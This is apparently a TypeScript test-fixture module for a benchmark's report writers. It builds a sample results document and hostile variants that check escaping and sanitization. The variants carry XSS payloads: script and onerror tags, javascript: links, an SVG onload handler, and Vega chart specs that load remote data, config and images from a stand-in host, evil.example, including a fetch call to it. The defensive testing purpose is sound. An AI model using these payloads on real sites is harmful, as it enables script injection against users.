/**
 * A small, valid results document for the report writers' tests: four cases, one per
 * verdict (reproduced, not reproduced, inconclusive, error), with charts, a table, run errors
 * and hyperparameter sources. Test-only.
 * @module
 */
import { measuredVsPredicted } from "./charts.ts";
import { type CaseResult, type Results, RESULTS_SCHEMA_VERSION, ResultsSchema } from "./schema.ts";

/** The string the escaping tests inject everywhere a label can come from. */
export const XSS = "<script>alert(1)</script>";

/** Options of {@link fixtureResults}. */
export interface FixtureOptions {
  /** Text put into claims, config values, chart titles, findings, notes, table cells. */
  payload?: string;
  /** Add a planned case that has no result (an incomplete run). */
  missing?: boolean;
}

function scalingChart(title: string) {
  const measured = [8, 16, 32, 64].map((n, i) => ({
    n,
    err: 1 / Math.sqrt(n) + 0.01 * i,
    lo: 1 / Math.sqrt(n) - 0.02,
    hi: 1 / Math.sqrt(n) + 0.03,
  }));
  const predicted = [8, 16, 32, 64].map((n) => ({ n, err: 1 / Math.sqrt(n) }));
  return measuredVsPredicted({
    title,
    x: { field: "n", title: "samples n", log: true },
    y: { field: "err", title: "error" },
    measured,
    ci: { lo: "lo", hi: "hi" },
    predicted,
    predictedLabel: "n^-1/2",
    rules: [{ x: 24, label: "n*" }],
  });
}

function baseCase(
  id: string,
  paper: string,
  claim: string,
  extra: Partial<CaseResult>,
): Record<string, unknown> {
  return {
    id,
    version: 1,
    paper,
    claim,
    profile: "smoke",
    status: "done",
    backend: "cpu",
    config: { n: 64, lr: 0.05 },
    configHash: "abc123",
    params: {
      n: { source: "paper", note: "Section 4" },
      lr: { source: "ours", note: "largest stable step" },
    },
    seeds: [1, 2, 3],
    startedAt: "2025-01-01T00:00:00.000Z",
    endedAt: "2025-01-01T00:00:02.500Z",
    durationS: 2.5,
    measurement: { err: [0.1, 0.2] },
    prediction: { err: 0.15 },
    charts: [],
    tables: [],
    runErrors: [],
    error: null,
    timings: { train: 2.1, judge: 0.01 },
    ...extra,
  };
}

/** A results document validated by `ResultsSchema`. */
export function fixtureResults(opts: FixtureOptions = {}): Results {
  const p = opts.payload ?? "";
  const cases: Record<string, unknown> = {
    "fl.balance": baseCase("fl.balance", "FL 2024", `Error decays as n^-1/2 ${p}`, {
      config: { n: 64, lr: 0.05, label: `cfg ${p}` },
      params: {
        n: { source: "paper", note: "Section 4" },
        lr: { source: "claims", note: `CLAIMS.md ${p}` },
        label: { source: "ours", note: "a label" },
      },
      verdict: {
        status: "reproduced",
        statistic: "slope",
        value: -0.49,
        ci: [-0.53, -0.46],
        band: [-0.6, -0.4],
        checks: [
          {
            name: "slope",
            status: "reproduced",
            value: -0.49,
            ci: [-0.53, -0.46],
            band: [-0.6, -0.4],
            primary: true,
            note: "",
            reason: "",
          },
          {
            name: `monotone ${p}`,
            status: "reproduced",
            value: 1,
            ci: [1, 1],
            band: [1, null],
            primary: false,
            note: "secondary",
            reason: "",
          },
        ],
        findings: [`error decreases in n ${p}`],
        robustness: null,
      },
      charts: [{ id: "scaling", title: `Scaling ${p}`, spec: scalingChart(`Scaling ${p}`) }],
      tables: [{
        id: "paper",
        title: `Measured vs paper ${p}`,
        columns: ["n", "measured", `paper ${p}`],
        rows: [[8, 0.35, 0.354], [64, null, `x ${p}`]],
      }],
    }),
    "fl.crossing": baseCase("fl.crossing", "FL 2024", "The threshold crosses at n* = 2d", {
      verdict: {
        status: "not reproduced",
        statistic: "n*/d",
        value: 3.1,
        ci: [2.8, 3.4],
        band: [1.5, 2.5],
        checks: [{
          name: "n*/d",
          status: "not reproduced",
          value: 3.1,
          ci: [2.8, 3.4],
          band: [1.5, 2.5],
          primary: true,
          note: "",
          reason: "",
        }],
        findings: ["the crossing is later than predicted"],
        robustness: null,
      },
      runErrors: [{ run: "seed 2, n=64", step: 120, observable: "loss", message: `NaN loss ${p}` }],
      charts: [{ id: "crossing", title: "Crossing", spec: scalingChart("Crossing") }],
    }),
    "mem.transition": baseCase("mem.transition", "MEM 2025", "Memorization sets in at n ~ d", {
      backend: "webgpu",
      verdict: {
        status: "inconclusive",
        statistic: "n*",
        value: null,
        ci: [null, 40],
        band: [10, 30],
        checks: [{
          name: "n*",
          status: "inconclusive",
          value: null,
          ci: [null, 40],
          band: [10, 30],
          primary: true,
          note: "censored",
          reason: "",
        }],
        findings: [],
        robustness: null,
      },
    }),
    "mem.onset": baseCase("mem.onset", "MEM 2025", "Onset follows the Hellinger bound", {
      status: "error",
      verdict: {
        status: "error",
        statistic: "none",
        value: null,
        ci: [null, null],
        band: [null, null],
        checks: [],
        findings: [`device lost ${p}`],
        robustness: null,
      },
      error: {
        message: `device lost ${p}`,
        stack: `Error: device lost\n    at run (mem/onset.ts:1:1)`,
      },
      measurement: null,
      prediction: null,
    }),
  };
  const planned = Object.keys(cases);
  if (opts.missing) planned.push("cum.pending");
  return ResultsSchema.parse({
    schema: "claimbench.results",
    schemaVersion: RESULTS_SCHEMA_VERSION,
    runId: "2025-01-01T00-00-00Z-test",
    createdAt: "2025-01-01T00:00:00.000Z",
    updatedAt: "2025-01-01T00:00:10.000Z",
    complete: !opts.missing,
    plan: {
      profile: "smoke",
      cases: planned,
      seeds: null,
      baseSeed: 1,
      overrides: {},
      backend: "auto",
      shard: { index: 1, count: 1 },
    },
    units: {
      planHash: "f".repeat(64),
      total: planned.length,
      assigned: planned.length,
      cases: planned,
      records: [],
      failed: [],
    },
    provenance: {
      suiteVersion: "0.1.0",
      git: { commit: "d57c67c", dirty: true, branch: "main" },
      deno: "2.9.6",
      v8: "13.0",
      typescript: "5.9",
      os: "linux",
      arch: "x86_64",
      osRelease: "6.1",
      cpuModel: "Test CPU",
      cpuCount: 2,
      memoryBytes: 8 * 2 ** 30,
      hostname: "ci-host",
      backendRequested: "auto",
      backend: "cpu",
      fallbackReason: "no WebGPU adapter",
      adapter: {
        vendor: "mesa",
        architecture: "llvmpipe",
        device: "",
        description: "llvmpipe (LLVM 15)",
        isFallbackAdapter: true,
        limits: { maxBufferSize: 268435456 },
        features: [],
        backendHint: "gl",
      },
      command: ["deno", "task", "claimbench", "run", "--profile", "smoke"],
      ci: false,
    },
    cases,
  });
}

/**
 * The script the hostile fixtures try to run, by every route a spec offers: it marks the page
 * (and the page that opened it) with `__pwned` and sends a request out.
 */
export const HOSTILE_SCRIPT =
  `window.__pwned=1;try{opener.__pwned=1}catch(e){};fetch("https://evil.example/ping")`;
const TAG = `<script>${HOSTILE_SCRIPT}</script><img src=x onerror='${HOSTILE_SCRIPT}'>`;
const REMOTE = "https://evil.example";

const pts = (n = 5) =>
  Array.from({ length: n }, (_, i) => ({ x: i, y: (i * 7) % 5, u: `${REMOTE}/${i}.png` }));
const XY = {
  x: { field: "x", type: "quantitative" },
  y: { field: "y", type: "quantitative" },
};

/**
 * Hostile chart specs: each tries to run {@link HOSTILE_SCRIPT}, load a remote resource or
 * link out, and each still draws points from inline data (so a sanitized page shows every
 * chart). Keyed by chart id.
 */
export function hostileSpecs(): Record<string, Record<string, unknown>> {
  return {
    "embed-options": {
      $schema: "https://vega.github.io/schema/vega-lite/v6.json",
      description: `${TAG}\u001b[2J`,
      data: { values: pts() },
      mark: "point",
      encoding: XY,
      usermeta: {
        embedOptions: {
          sourceHeader: TAG,
          sourceFooter: TAG,
          config: `${REMOTE}/config.json`,
          patch: `${REMOTE}/patch.json`,
          loader: { baseURL: `${REMOTE}/` },
          actions: true,
          defaultStyle: `body{background:url(${REMOTE}/css.png)}`,
          i18n: { SOURCE_ACTION: TAG, PNG_ACTION: TAG },
          editorUrl: `${REMOTE}/editor`,
        },
      },
    },
    "remote-data": {
      layer: [
        { data: { values: pts() }, mark: "line", encoding: XY },
        { data: { url: `${REMOTE}/data.json` }, mark: "point", encoding: XY },
        { data: { url: `${REMOTE}/data.csv`, format: { type: "csv" } }, mark: "bar", encoding: XY },
      ],
    },
    images: {
      data: { values: pts() },
      layer: [
        { mark: "point", encoding: XY },
        {
          mark: { type: "image", url: `${REMOTE}/a.png`, width: 20, height: 20 },
          encoding: { ...XY, url: { field: "u", type: "nominal" } },
        },
        {
          mark: { type: "image", width: 20, height: 20 },
          encoding: {
            ...XY,
            url: {
              value:
                `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload='${HOSTILE_SCRIPT}'/>`,
            },
          },
        },
      ],
    },
    links: {
      title: { text: `links ${TAG}`, href: `javascript:${HOSTILE_SCRIPT}` },
      data: { values: pts() },
      mark: { type: "point", href: `javascript:${HOSTILE_SCRIPT}`, cursor: `url(${REMOTE}/c.cur)` },
      encoding: {
        ...XY,
        href: { value: `data:text/html,${TAG}` },
        fill: { value: `url(${REMOTE}/fill.svg#p)` },
        tooltip: { value: TAG },
      },
      config: { mark: { href: `javascript:${HOSTILE_SCRIPT}` } },
      params: [{ name: "p", value: 1, bind: { input: "range", min: 0, max: 2, element: "body" } }],
    },
    vega: {
      $schema: "https://vega.github.io/schema/vega/v6.json",
      description: TAG,
      width: 200,
      height: 120,
      usermeta: { embedOptions: { sourceFooter: TAG } },
      signals: [{ name: "s", value: 1, bind: { input: "checkbox", element: "head" } }],
      data: [
        { name: "table", values: pts() },
        { name: "remote", url: `${REMOTE}/vega.json` },
      ],
      scales: [
        { name: "x", domain: { data: "table", field: "x" }, range: "width" },
        { name: "y", domain: { data: "table", field: "y" }, range: "height" },
      ],
      marks: [
        {
          type: "symbol",
          from: { data: "table" },
          encode: {
            update: {
              x: { scale: "x", field: "x" },
              y: { scale: "y", field: "y" },
              href: { value: `javascript:${HOSTILE_SCRIPT}` },
            },
          },
        },
        {
          type: "image",
          from: { data: "table" },
          encode: { update: { url: { field: "u" }, width: { value: 10 }, height: { value: 10 } } },
        },
      ],
    },
  };
}

/**
 * A results document carrying {@link hostileSpecs} as its charts (two per case, the last case
 * one) and hostile text in every label; validated like any results file.
 */
export function hostileResults(): Results {
  const r = fixtureResults({ payload: TAG });
  const specs = Object.entries(hostileSpecs());
  const ids = Object.keys(r.cases);
  ids.forEach((id, i) => {
    r.cases[id].charts = specs.slice(2 * i, 2 * i + 2).map(([chartId, spec]) => ({
      id: chartId,
      title: `${chartId} ${TAG}`,
      spec,
    }));
  });
  return ResultsSchema.parse(JSON.parse(JSON.stringify(r)));
}
